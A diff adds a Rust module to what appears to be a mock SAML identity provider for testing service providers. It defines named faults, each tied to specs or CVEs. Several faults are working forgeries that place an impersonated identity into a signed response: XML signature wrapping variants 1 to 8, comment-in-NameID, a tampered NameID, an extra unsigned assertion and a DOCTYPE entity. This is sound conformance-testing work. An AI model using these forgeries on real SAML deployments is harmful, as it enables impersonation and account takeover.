@@ -1,0 +1,456 @@
+//! Named faults: deliberate mistakes and attacks applied to one response.
+//!
+//! A fault works in up to two places. Before signing it changes what is said
+//! ([`Fault::adjust`]): times, audience, addressing, status, which parts are
+//! signed. After signing it rearranges or edits the signed text
+//! ([`Fault::after_signing`]): signature wrapping, comments, a DOCTYPE.
+//!
+//! Faults that forge an identity (bad-signature, comment-in-nameid, the XSW
+//! family, multiple-assertions) put the *impersonated* identity into the
+//! unsigned or tampered part. A correct SP never gives that identity a session.
+
+use std::fmt;
+use std::str::FromStr;
+
+use time::{Duration, OffsetDateTime};
+
+use super::response::{ResponseContent, STATUS_AUTHN_FAILED, Status};
+use super::xml::{element_span, escape, set_attribute_in_tag};
+use crate::org::SignatureAlgorithm;
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
+pub enum Fault {
+    Unsigned,
+    BadSignature,
+    UntrustedKey,
+    Sha1,
+    WrongAudience,
+    MissingAudience,
+    WrongRecipient,
+    WrongDestination,
+    WrongIssuer,
+    Expired,
+    NotYetValid,
+    /// Positive: the response becomes valid this many seconds from now.
+    /// Negative: it stopped being valid this many seconds ago.
+    Skew(i64),
+    InResponseToMismatch,
+    StatusResponder,
+    CommentInNameId,
+    /// XML signature wrapping, numbered as SAML Raider numbers them (1 to 8).
+    Xsw(u8),
+    MultipleAssertions,
+    DoctypeEntity,
+}
+
+/// One entry of the fault catalogue, for `--help` texts and docs.
+#[derive(Clone, Debug, serde::Serialize)]
+pub struct FaultInfo {
+    pub name: String,
+    pub changes: &'static str,
+    pub exercises: &'static str,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+#[error("unknown fault '{0}' (run `mockta saml faults` for the list)")]
+pub struct UnknownFault(pub String);
+
+/// The audience the `wrong-audience` fault names: another SP's entity id.
+pub const WRONG_AUDIENCE: &str = "https://other-sp.invalid/saml/metadata";
+/// Where `wrong-recipient` and `wrong-destination` point.
+pub const WRONG_ACS: &str = "https://attacker.invalid/sso/acs";
+/// The issuer `wrong-issuer` names: another Okta app's entity id.
+pub const WRONG_ISSUER: &str = "http://www.okta.com/0oaWRONGISSUER0000";
+/// The suffix `comment-in-nameid` signs after the impersonated identity.
+pub const COMMENT_SUFFIX: &str = ".attacker.invalid";
+pub const EVIL_RESPONSE_ID: &str = "_evil_response_ID";
+pub const EVIL_ASSERTION_ID: &str = "_evil_assertion_ID";
+
+impl Fault {
+    /// Every fault, with skew shown at a sample value.
+    pub fn all() -> Vec<Fault> {
+        let mut all = vec![
+            Fault::Unsigned,
+            Fault::BadSignature,
+            Fault::UntrustedKey,
+            Fault::Sha1,
+            Fault::WrongAudience,
+            Fault::MissingAudience,
+            Fault::WrongRecipient,
+            Fault::WrongDestination,
+            Fault::WrongIssuer,
+            Fault::Expired,
+            Fault::NotYetValid,
+            Fault::Skew(240),
+            Fault::Skew(-240),
+            Fault::InResponseToMismatch,
+            Fault::StatusResponder,
+            Fault::CommentInNameId,
+        ];
+        all.extend((1..=8).map(Fault::Xsw));
+        all.extend([Fault::MultipleAssertions, Fault::DoctypeEntity]);
+        all
+    }
+
+    pub fn catalogue() -> Vec<FaultInfo> {
+        Fault::all()
+            .into_iter()
+            .map(|f| FaultInfo { name: f.to_string(), changes: f.changes(), exercises: f.exercises() })
+            .collect()
+    }
+
+    /// Whether the fault puts an impersonated identity into the message.
+    pub fn forges_identity(self) -> bool {
+        matches!(self, Fault::BadSignature | Fault::CommentInNameId | Fault::Xsw(_) | Fault::MultipleAssertions)
+    }
+
+    pub fn changes(self) -> &'static str {
+        match self {
+            Fault::Unsigned => "No signature at all, on the Response or the Assertion.",
+            Fault::BadSignature => {
+                "Signed correctly, then the NameID is changed to the impersonated identity, so the digest no longer matches."
+            }
+            Fault::UntrustedKey => "Signed by a different self-signed key, whose certificate is put in KeyInfo.",
+            Fault::Sha1 => "Signed with rsa-sha1 and sha1 digests instead of SHA-256.",
+            Fault::WrongAudience => "The Audience names another SP.",
+            Fault::MissingAudience => "Conditions has no AudienceRestriction.",
+            Fault::WrongRecipient => "SubjectConfirmationData Recipient is another ACS URL.",
+            Fault::WrongDestination => "The Response Destination is another ACS URL.",
+            Fault::WrongIssuer => "Both Issuers name another Okta app; the signature is still by this app's key.",
+            Fault::Expired => "Every time is an hour early: NotOnOrAfter passed an hour ago.",
+            Fault::NotYetValid => "Every time is an hour late: NotBefore is an hour from now.",
+            Fault::Skew(_) => {
+                "skew:+N makes the response valid only from N seconds from now; skew:-N makes it stop being valid N seconds ago."
+            }
+            Fault::InResponseToMismatch => "InResponseTo names an AuthnRequest that was never sent.",
+            Fault::StatusResponder => "Status is Responder/AuthnFailed, yet a signed Assertion is included.",
+            Fault::CommentInNameId => {
+                "The signed NameID is the impersonated identity plus a suffix; after signing a comment is put before the suffix."
+            }
+            Fault::Xsw(1) => {
+                "XSW1: the Response is edited and renamed; an unsigned copy of the original goes inside its Signature."
+            }
+            Fault::Xsw(2) => "XSW2: as XSW1, but the copy goes before the Signature.",
+            Fault::Xsw(3) => {
+                "XSW3: an edited, unsigned copy of the Assertion with a new ID goes before the signed one."
+            }
+            Fault::Xsw(4) => "XSW4: an edited, unsigned copy of the Assertion wraps the signed one.",
+            Fault::Xsw(5) => {
+                "XSW5: the signed Assertion is edited and renamed; an unsigned copy of the original follows it."
+            }
+            Fault::Xsw(6) => "XSW6: as XSW5, but the unsigned original goes inside the edited Assertion's Signature.",
+            Fault::Xsw(7) => {
+                "XSW7: an edited copy with the same ID goes inside an un-namespaced Extensions element before the Assertion."
+            }
+            Fault::Xsw(_) => {
+                "XSW8: the Assertion is edited in place; the unsigned original goes in an Object element inside its Signature."
+            }
+            Fault::MultipleAssertions => {
+                "A second, unsigned Assertion for the impersonated identity follows the signed one."
+            }
+            Fault::DoctypeEntity => "A DOCTYPE with an internal entity declaration is put before the signed Response.",
+        }
+    }
+
+    pub fn exercises(self) -> &'static str {
+        match self {
+            Fault::Unsigned => "SAML Profiles 4.1.3.5 (assertions must be signed); CVE-2020-12676",
+            Fault::BadSignature => "XMLDSig core validation; CVE-2016-9814",
+            Fault::UntrustedKey => "trust only the certificate from metadata; CVE-2024-32962",
+            Fault::Sha1 => "XMLDSig 1.1 marks SHA-1 discouraged; Okta requires SHA-256 for OIN",
+            Fault::WrongAudience | Fault::MissingAudience => "SAML Profiles 4.1.4.2 (AudienceRestriction)",
+            Fault::WrongRecipient => "SAML Profiles 4.1.4.2 (Recipient)",
+            Fault::WrongDestination => "SAML Bindings 3.5.5.2 (Destination)",
+            Fault::WrongIssuer => "SAML Core 2.2.5 (Issuer)",
+            Fault::Expired | Fault::NotYetValid | Fault::Skew(_) => "SAML Core 2.5.1.2 (NotBefore, NotOnOrAfter)",
+            Fault::InResponseToMismatch => "SAML Profiles 4.1.4.3 (InResponseTo)",
+            Fault::StatusResponder => "SAML Core 3.2.2.2 (StatusCode)",
+            Fault::CommentInNameId => "CVE-2017-11427, CVE-2017-11428, CVE-2017-11429, CVE-2017-11430, CVE-2018-0489",
+            Fault::Xsw(_) => "Somorovsky et al., On Breaking SAML (2012); SAML Raider",
+            Fault::MultipleAssertions => "CVE-2022-41912",
+            Fault::DoctypeEntity => "CVE-2025-25291, CVE-2025-23369 (reject any DTD)",
+        }
+    }
+
+    /// Changes the content before signing. `now` is the current time.
+    pub fn adjust(self, content: &mut ResponseContent, now: OffsetDateTime) {
+        match self {
+            Fault::Unsigned => {
+                content.signatures.response = false;
+                content.signatures.assertion = false;
+            }
+            Fault::Sha1 => content.signatures.algorithm = SignatureAlgorithm::RsaSha1,
+            Fault::WrongAudience => content.conditions.audience = Some(WRONG_AUDIENCE.to_owned()),
+            Fault::MissingAudience => content.conditions.audience = None,
+            Fault::WrongRecipient => content.subject.recipient = WRONG_ACS.to_owned(),
+            Fault::WrongDestination => content.destination = WRONG_ACS.to_owned(),
+            Fault::WrongIssuer => content.issuer = WRONG_ISSUER.to_owned(),
+            Fault::Expired => shift_validity(content, now, -3600),
+            Fault::NotYetValid => shift_validity(content, now, 3600),
+            Fault::Skew(seconds) => shift_validity(content, now, seconds),
+            Fault::InResponseToMismatch => {
+                content.in_response_to = Some("id_mockta_never_requested_0000000000".to_owned());
+            }
+            Fault::StatusResponder => {
+                content.status = Status::Responder { second_level: STATUS_AUTHN_FAILED.to_owned() };
+            }
+            Fault::Xsw(1 | 2) => content.signatures.response = true,
+            Fault::Xsw(_) => content.signatures.assertion = true,
+            Fault::BadSignature | Fault::UntrustedKey | Fault::MultipleAssertions | Fault::DoctypeEntity => {}
+            Fault::CommentInNameId => {}
+        }
+    }
+
+    /// Edits the signed text. `identity` is what the honest message says and
+    /// what to put instead.
+    pub fn after_signing(self, signed: &str, identity: &Identity) -> Result<String, FaultError> {
+        match self {
+            Fault::BadSignature => {
+                let span =
+                    element_span(signed, "<saml2:NameID ", "</saml2:NameID>", 0).ok_or(FaultError::Shape("NameID"))?;
+                let name_id = &signed[span.clone()];
+                let open_end = name_id.find('>').ok_or(FaultError::Shape("NameID"))? + 1;
+                let replaced = format!("{}{}</saml2:NameID>", &name_id[..open_end], escape(&identity.impersonate));
+                Ok(format!("{}{}{}", &signed[..span.start], replaced, &signed[span.end..]))
+            }
+            Fault::CommentInNameId => {
+                let needle = format!(">{}{}<", escape(&identity.impersonate), escape(COMMENT_SUFFIX));
+                let at = signed.find(&needle).ok_or(FaultError::Shape("NameID"))?;
+                let split = at + 1 + escape(&identity.impersonate).len();
+                Ok(format!("{}<!---->{}", &signed[..split], &signed[split..]))
+            }
+            Fault::Xsw(n) => xsw(n, signed, identity),
+            Fault::MultipleAssertions => {
+                let assertion = assertion_span(signed)?;
+                let evil = evil_copy(&signed[assertion.clone()], identity, Some(EVIL_ASSERTION_ID), true)?;
+                Ok(insert(signed, assertion.end, &evil))
+            }
+            Fault::DoctypeEntity => {
+                let body = signed.strip_prefix(super::response::XML_DECLARATION).unwrap_or(signed);
+                Ok(format!(
+                    "{}<!DOCTYPE saml2p:Response [<!ENTITY mockta \"mockta\">]>{body}",
+                    super::response::XML_DECLARATION
+                ))
+            }
+            _ => Ok(signed.to_owned()),
+        }
+    }
+}
+
+/// What the honest message says about the user, and the identity a forging
+/// fault claims instead.
+#[derive(Clone, Debug)]
+pub struct Identity {
+    /// Strings that name the signed-in user: the NameID, login and email.
+    pub genuine: Vec<String>,
+    pub impersonate: String,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+pub enum FaultError {
+    #[error("the signed response has no {0} where the fault expects one")]
+    Shape(&'static str),
+}
+
+/// Moves every instant so that, with skew > 0, the response becomes valid
+/// `skew` seconds from now, and with skew < 0, stopped being valid `-skew`
+/// seconds ago. The ten-minute window of Okta's responses is kept.
+fn shift_validity(content: &mut ResponseContent, now: OffsetDateTime, skew: i64) {
+    let window = Duration::minutes(5);
+    let issue_instant =
+        if skew >= 0 { now + Duration::seconds(skew) + window } else { now + Duration::seconds(skew) - window };
+    content.issue_instant = issue_instant;
+    content.authn.authn_instant = issue_instant;
+    content.conditions.not_before = issue_instant - window;
+    content.conditions.not_on_or_after = issue_instant + window;
+    content.subject.not_on_or_after = issue_instant + window;
+}
+
+fn assertion_span(xml: &str) -> Result<std::ops::Range<usize>, FaultError> {
+    element_span(xml, "<saml2:Assertion ", "</saml2:Assertion>", 0).ok_or(FaultError::Shape("Assertion"))
+}
+
+fn signature_span(xml: &str) -> Result<std::ops::Range<usize>, FaultError> {
+    element_span(xml, "<ds:Signature ", "</ds:Signature>", 0).ok_or(FaultError::Shape("Signature"))
+}
+
+fn insert(xml: &str, at: usize, fragment: &str) -> String {
+    format!("{}{}{}", &xml[..at], fragment, &xml[at..])
+}
+
+fn remove(xml: &str, range: std::ops::Range<usize>) -> String {
+    format!("{}{}", &xml[..range.start], &xml[range.end..])
+}
+
+/// Replaces every text node that names the genuine user with the impersonated identity.
+fn replace_identity(fragment: &str, identity: &Identity) -> String {
+    let mut out = fragment.to_owned();
+    for genuine in &identity.genuine {
+        if genuine.is_empty() {
+            continue;
+        }
+        out = out.replace(&format!(">{}<", escape(genuine)), &format!(">{}<", escape(&identity.impersonate)));
+    }
+    out
+}
+
+/// An edited copy of an element: identity replaced, optionally renamed, and
+/// optionally without its first Signature.
+fn evil_copy(
+    element: &str,
+    identity: &Identity,
+    new_id: Option<&str>,
+    strip_signature: bool,
+) -> Result<String, FaultError> {
+    let mut copy = replace_identity(element, identity);
+    if strip_signature && let Ok(signature) = signature_span(&copy) {
+        copy = remove(&copy, signature);
+    }
+    if let Some(id) = new_id {
+        copy = set_attribute_in_tag(&copy, 0, "ID", id).ok_or(FaultError::Shape("ID attribute"))?;
+    }
+    Ok(copy)
+}
+
+/// The XSW attacks, following SAML Raider's `XSWHelpers`.
+fn xsw(n: u8, signed: &str, identity: &Identity) -> Result<String, FaultError> {
+    let declaration = super::response::XML_DECLARATION;
+    let root = signed.strip_prefix(declaration).unwrap_or(signed);
+    let rebuilt = match n {
+        1 | 2 => {
+            // The Response signature comes right after the Response Issuer, so it
+            // is the first Signature in document order.
+            let clone = remove(root, signature_span(root)?);
+            let evil = set_attribute_in_tag(&replace_identity(root, identity), 0, "ID", EVIL_RESPONSE_ID)
+                .ok_or(FaultError::Shape("Response ID"))?;
+            let signature = signature_span(&evil)?;
+            let at = if n == 1 { signature.end - "</ds:Signature>".len() } else { signature.start };
+            insert(&evil, at, &clone)
+        }
+        3 => {
+            let assertion = assertion_span(root)?;
+            let evil = evil_copy(&root[assertion.clone()], identity, Some(EVIL_ASSERTION_ID), true)?;
+            insert(root, assertion.start, &evil)
+        }
+        4 => {
+            let assertion = assertion_span(root)?;
+            let original = root[assertion.clone()].to_owned();
+            let evil = evil_copy(&original, identity, Some(EVIL_ASSERTION_ID), true)?;
+            let close = "</saml2:Assertion>";
+            let wrapped = format!("{}{}{}", &evil[..evil.len() - close.len()], original, close);
+            let without = remove(root, assertion);
+            let end = without.rfind("</saml2p:Response>").ok_or(FaultError::Shape("Response end"))?;
+            insert(&without, end, &wrapped)
+        }
+        5 => {
+            let assertion = assertion_span(root)?;
+            let original = root[assertion.clone()].to_owned();
+            let edited = evil_copy(&original, identity, Some(EVIL_ASSERTION_ID), false)?;
+            let unsigned_original = remove(&original, signature_span(&original)?);
+            let replaced = format!("{}{}{}", &root[..assertion.start], edited, &root[assertion.end..]);
+            let end = replaced.rfind("</saml2p:Response>").ok_or(FaultError::Shape("Response end"))?;
+            insert(&replaced, end, &unsigned_original)
+        }
+        6 | 8 => {
+            let assertion = assertion_span(root)?;
+            let original = root[assertion.clone()].to_owned();
+            let new_id = if n == 6 { Some(EVIL_ASSERTION_ID) } else { None };
+            let edited = evil_copy(&original, identity, new_id, false)?;
+            let unsigned_original = remove(&original, signature_span(&original)?);
+            let signature = signature_span(&edited)?;
+            let at = signature.end - "</ds:Signature>".len();
+            let payload = if n == 6 { unsigned_original } else { format!("<Object>{unsigned_original}</Object>") };
+            let edited = insert(&edited, at, &payload);
+            format!("{}{}{}", &root[..assertion.start], edited, &root[assertion.end..])
+        }
+        7 => {
+            let assertion = assertion_span(root)?;
+            let evil = evil_copy(&root[assertion.clone()], identity, None, true)?;
+            insert(root, assertion.start, &format!("<Extensions>{evil}</Extensions>"))
+        }
+        _ => return Err(FaultError::Shape("XSW variant")),
+    };
+    Ok(format!("{declaration}{rebuilt}"))
+}
+
+impl fmt::Display for Fault {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        let name = match self {
+            Fault::Unsigned => "unsigned",
+            Fault::BadSignature => "bad-signature",
+            Fault::UntrustedKey => "untrusted-key",
+            Fault::Sha1 => "sha1",
+            Fault::WrongAudience => "wrong-audience",
+            Fault::MissingAudience => "missing-audience",
+            Fault::WrongRecipient => "wrong-recipient",
+            Fault::WrongDestination => "wrong-destination",
+            Fault::WrongIssuer => "wrong-issuer",
+            Fault::Expired => "expired",
+            Fault::NotYetValid => "not-yet-valid",
+            Fault::Skew(seconds) => return write!(f, "skew:{seconds:+}"),
+            Fault::InResponseToMismatch => "in-response-to-mismatch",
+            Fault::StatusResponder => "status-responder",
+            Fault::CommentInNameId => "comment-in-nameid",
+            Fault::Xsw(n) => return write!(f, "xsw{n}"),
+            Fault::MultipleAssertions => "multiple-assertions",
+            Fault::DoctypeEntity => "doctype-entity",
+        };
+        f.write_str(name)
+    }
+}
+
+impl FromStr for Fault {
+    type Err = UnknownFault;
+
+    fn from_str(text: &str) -> Result<Self, UnknownFault> {
+        let unknown = || UnknownFault(text.to_owned());
+        if let Some(seconds) = text.strip_prefix("skew:") {
+            let signed = seconds.starts_with('+') || seconds.starts_with('-');
+            return match seconds.parse::<i64>() {
+                Ok(value) if signed && value != 0 && value.abs() <= 31_536_000 => Ok(Fault::Skew(value)),
+                _ => Err(unknown()),
+            };
+        }
+        if let Some(n) = text.strip_prefix("xsw") {
+            return match n.parse::<u8>() {
+                Ok(n @ 1..=8) => Ok(Fault::Xsw(n)),
+                _ => Err(unknown()),
+            };
+        }
+        Fault::all().into_iter().find(|f| !matches!(f, Fault::Skew(_)) && f.to_string() == text).ok_or_else(unknown)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn every_fault_name_round_trips() {
+        for fault in Fault::all() {
+            assert_eq!(fault.to_string().parse::<Fault>(), Ok(fault));
+        }
+    }
+
+    #[test]
+    fn malformed_fault_names_rejected() {
+        for bad in ["", "xsw9", "xsw0", "skew:10", "skew:+x", "skew:+0", "Unsigned"] {
+            assert!(bad.parse::<Fault>().is_err(), "{bad}");
+        }
+    }
+
+    #[test]
+    fn xsw_fragments_keep_one_signed_original() {
+        let signed = format!(
+            "{}<saml2p:Response ID=\"r\" xmlns:saml2p=\"p\"><saml2:Issuer xmlns:saml2=\"a\">i</saml2:Issuer><saml2:Assertion ID=\"a1\" xmlns:saml2=\"a\"><ds:Signature xmlns:ds=\"d\">S</ds:Signature><saml2:NameID Format=\"f\">alice@acme.test</saml2:NameID></saml2:Assertion></saml2p:Response>",
+            super::super::response::XML_DECLARATION
+        );
+        let identity = Identity { genuine: vec!["alice@acme.test".into()], impersonate: "admin@acme.test".into() };
+        for n in 3..=8 {
+            let out = xsw(n, &signed, &identity).unwrap();
+            assert_eq!(out.matches("<ds:Signature ").count(), 1, "xsw{n}: {out}");
+            assert!(out.contains(">admin@acme.test<"), "xsw{n}");
+            assert!(out.contains(">alice@acme.test<"), "xsw{n}");
+        }
+    }
+}
